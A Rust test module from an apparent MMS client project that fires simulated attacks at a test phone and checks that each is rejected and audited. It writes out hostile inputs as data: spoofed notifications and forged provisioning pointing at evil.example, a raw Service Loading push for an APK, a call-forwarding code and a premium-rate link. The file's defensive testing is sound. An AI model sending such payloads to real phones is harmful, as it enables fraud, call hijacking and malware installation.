//! What an attacker tries against phone B, each blocked or gated with its reason and audit row:
//! a spoofed notification (PUSH-1), a forged provisioning push (OTA-2), a Service Loading push
//! (PUSH-2), premium and call-forwarding links (LINK-1), a content-type lie (CONTENT-2) and a
//! notification flood (PUSH-6).

use super::Run;
use super::journey::Exchange;
use super::world::{IMSI_B, Phone, World, audit_line, cp_push, jpeg, provision, wait};
use mms_core::links::{LinkDecision, LinkSource};
use mms_core::pdu::builder::{Notification, notification_ind};
use mms_core::pdu::content_type::{ContentType, MediaType};
use mms_core::pdu::{ClassToken, TimeValue};
use mms_core::provisioning::{Credentials, SecMethod, Secret};
use mms_core::push::{PORT_PUSH, Verdict, encode_mms_push, encode_push};
use mms_core::{Draft, DraftPart};
use std::time::Instant;

/// The newest audit row with `reason` on phone `p`.
fn audit_of(p: &Phone, reason: &str) -> Option<mms_core::audit::AuditEvent> {
    p.client
        .audit_log(Some(reason), 1)
        .ok()
        .and_then(|v| v.into_iter().next())
}

/// Steps 10 to 15.
pub(super) async fn all(w: &World, x: &Exchange, run: &mut Run) {
    let (mmsc, a, b) = (&w.mmsc, &w.a, &w.b);
    let bid = x.bid;
    let imsi = Credentials {
        imsi: Some(Secret::new(IMSI_B)),
        pin: None,
    };
    let t = Instant::now();
    let spoof = notification_ind(&Notification {
        transaction_id: "EVIL1",
        from: Some("+15559999"),
        subject: Some("You have a new MMS"),
        size: 10_000,
        expiry: TimeValue::Relative(86_400),
        content_location: "https://evil.example/m/1",
        class: ClassToken::Personal,
        delivery_report: false,
    })
    .encode()
    .unwrap_or_default();
    let v = b
        .client
        .handle_push("+15559999", Some(PORT_PUSH), &encode_mms_push(9, &spoof))
        .await;
    let a1 = audit_of(b, "spoofed_content_location");
    run.record(
        "attack: spoofed notification to a foreign host",
        "rejected, nothing fetched",
        t,
        v.verdict == Verdict::Reject
            && a1.is_some()
            && mmsc.log_of("retrieve_unknown_token").is_empty(),
        format!(
            "{} {}: {}",
            v.verdict.code(),
            v.reason.code(),
            v.detail.chars().take(70).collect::<String>()
        ),
        Some("PUSH-1"),
        a1.as_ref().map(audit_line),
    );

    let t = Instant::now();
    let before = b.client.profile().mmsc_url;
    let forged = cp_push("https://evil.example/mms", SecMethod::Netwpin, &imsi, true);
    let r = provision(b, &forged, &imsi).await;
    let a2 = audit_of(b, "mac_mismatch");
    let unchanged = b.client.profile().mmsc_url == before;
    run.record(
        "attack: forged provisioning push",
        "MAC mismatch, settings unchanged",
        t,
        r.is_err() && unchanged && a2.is_some(),
        format!("{}; MMSC still {before}", r.err().unwrap_or_default()),
        Some("OTA-2"),
        a2.as_ref().map(audit_line),
    );

    let t = Instant::now();
    let mut sl = vec![0x02, 0x06, 0x6a, 0x00, 0x85, 0x06, 0x09, 0x03];
    sl.extend_from_slice(b"evil.example/update.apk\0");
    sl.push(0x01);
    let v = b
        .client
        .handle_push(
            "+15559999",
            Some(PORT_PUSH),
            &encode_push(3, &ContentType::new(MediaType::WellKnown(0x30)), None, &sl)
                .unwrap_or_default(),
        )
        .await;
    let a3 = audit_of(b, "service_loading_refused");
    run.record(
        "attack: Service Loading push (execute-high)",
        "never loaded",
        t,
        v.verdict == Verdict::Reject && a3.is_some(),
        format!("{} {}: {}", v.verdict.code(), v.reason.code(), v.detail),
        Some("PUSH-2"),
        a3.as_ref().map(audit_line),
    );

    let t = Instant::now();
    let gate = b.client.links();
    let d = gate.request_action("tel:+1-900-555-0100", LinkSource::message("demo"));
    let ok = matches!(&d, LinkDecision::NeedsConfirmation(p) if p.cost == mms_core::links::CostRisk::Premium);
    let outcome = match &d {
        LinkDecision::NeedsConfirmation(p) => format!("needs confirmation: {}", p.description),
        LinkDecision::Blocked { blocked, .. } => format!("blocked: {}", blocked.detail),
    };
    let d2 = gate.request_action("tel:*21*+15559999#", LinkSource::message("demo"));
    // The client's own gate: its refusal is in B's audit log (and reached B's listener).
    let a_link = audit_of(b, "supplementary_service_code");
    let ok = ok && mms_core::links::gate::is_blocked(&d2) && a_link.is_some();
    run.record(
        "attack: tel: premium link and a call-forwarding code",
        "premium gated, forwarding blocked",
        t,
        ok,
        outcome,
        Some("LINK-1"),
        a_link.as_ref().map(audit_line),
    );

    let t = Instant::now();
    let lie = Draft {
        to: vec![b.number.clone()],
        subject: Some("just text".into()),
        parts: vec![DraftPart {
            content_type: "text/plain".into(),
            name: "note.txt".into(),
            data: jpeg(64, 64, 500),
        }],
        ..Draft::default()
    };
    let _ = a.client.send(lie).await;
    let lie_id = wait(|| b.events.received().into_iter().find(|id| *id != bid)).await;
    let plan = lie_id.map(|id| b.client.render_plan(id));
    let a4 = audit_of(b, "content_type_mismatch");
    let ok = matches!(&plan, Some(Ok(p)) if p.parts.iter().any(|x| x.sniffed_type == "image/jpeg" && x.decision != mms_core::content::PartDecision::Auto));
    run.record(
        "attack: text/plain part carrying a JPEG",
        "flagged, not auto-rendered",
        t,
        ok && a4.is_some(),
        match &plan {
            Some(Ok(p)) => p
                .parts
                .iter()
                .map(|x| {
                    format!(
                        "declared {} is {} -> {}",
                        x.declared_type,
                        x.sniffed_type,
                        x.decision.code()
                    )
                })
                .collect::<Vec<_>>()
                .join("; "),
            _ => "message not received".into(),
        },
        Some("CONTENT-2"),
        a4.as_ref().map(audit_line),
    );

    let t = Instant::now();
    let mut rejected = 0;
    for i in 0..2000u32 {
        let origin = format!("+1666{:07}", i % 200);
        let n = notification_ind(&Notification {
            transaction_id: &format!("FLOOD{i}"),
            from: Some(&origin),
            subject: None,
            size: 1000,
            expiry: TimeValue::Relative(3600),
            content_location: &format!("{}/m/flood{i}", mmsc.url()),
            class: ClassToken::Advertisement,
            delivery_report: false,
        })
        .encode()
        .unwrap_or_default();
        let v = b
            .client
            .handle_push(&origin, Some(PORT_PUSH), &encode_mms_push(1, &n))
            .await;
        if v.verdict == Verdict::Reject {
            rejected += 1;
        }
    }
    let stored_flood = b
        .client
        .messages()
        .map(|m| {
            m.iter()
                .filter(|r| r.transaction_id.starts_with("FLOOD"))
                .count()
        })
        .unwrap_or(0);
    let a5 = audit_of(b, "rate_limited");
    run.record(
        "attack: notification flood, 2000 pushes from 200 origins",
        "rate limited, nothing auto-downloaded",
        t,
        rejected > 1500 && a5.is_some() && mmsc.log_of("retrieve_unknown_token").is_empty(),
        format!("{rejected} rejected; {stored_flood} kept as unverified, none downloaded"),
        Some("PUSH-6"),
        a5.as_ref().map(audit_line),
    );
}
